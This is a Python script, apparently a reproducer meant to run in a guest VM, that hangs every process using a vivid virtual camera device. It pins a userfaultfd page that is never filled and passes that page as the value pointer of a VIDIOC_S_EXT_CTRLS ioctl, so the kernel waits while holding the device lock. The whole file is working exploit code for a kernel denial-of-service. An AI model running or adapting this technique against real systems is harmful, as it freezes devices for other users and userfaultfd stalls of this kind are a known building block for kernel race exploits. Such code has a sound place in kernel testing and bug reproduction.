"""Runs inside the guest: makes every call to a vivid camera hang in the kernel.

An extended control is set from a page that nobody fills (userfaultfd): the kernel waits for that
page with the device's lock held, and every other call to the device waits for the lock. It ends
when this program is ended.
"""

import ctypes
import mmap
import os
import struct
import sys
import threading

PAGE = 4096
SYS_USERFAULTFD = 323
UFFDIO_API = 0xC018AA3F
UFFDIO_REGISTER = 0xC020AA00
REGISTER_MODE_MISSING = 1
VIDIOC_S_EXT_CTRLS = 0xC0205648
VIVID_STRING = 0x0098F900 + 5  # vivid's string control: its value is read under the lock

libc = ctypes.CDLL(None, use_errno=True)


def call(name: str, result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), f"{name}: {os.strerror(ctypes.get_errno())}")
    return result


def trap() -> int:
    """The address of a page that nobody fills."""
    faults = call("userfaultfd", libc.syscall(SYS_USERFAULTFD, os.O_CLOEXEC))
    api = ctypes.create_string_buffer(struct.pack("QQQ", 0xAA, 0, 0))
    call("UFFDIO_API", libc.ioctl(faults, ctypes.c_ulong(UFFDIO_API), api))
    memory = mmap.mmap(-1, PAGE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    order = ctypes.create_string_buffer(
        struct.pack("QQQQ", address, PAGE, REGISTER_MODE_MISSING, 0)
    )
    call("UFFDIO_REGISTER", libc.ioctl(faults, ctypes.c_ulong(UFFDIO_REGISTER), order))
    globals()["_kept"] = (faults, memory)
    return address


def main() -> None:
    device = os.open(sys.argv[1], os.O_RDWR)
    # struct v4l2_ext_control, packed: id, size, reserved2, pointer
    control = ctypes.create_string_buffer(struct.pack("=IIIQ", VIVID_STRING, 5, 0, trap()))
    table = struct.pack("=IIIiIIQ", 0, 1, 0, 0, 0, 0, ctypes.addressof(control))
    request = ctypes.create_string_buffer(table)
    hung = threading.Thread(
        target=lambda: print(
            libc.ioctl(device, ctypes.c_ulong(VIDIOC_S_EXT_CTRLS), request),
            os.strerror(ctypes.get_errno()),
            flush=True,
        )
    )
    hung.start()
    hung.join()
    sys.exit(1)  # it did not hang


if __name__ == "__main__":
    main()
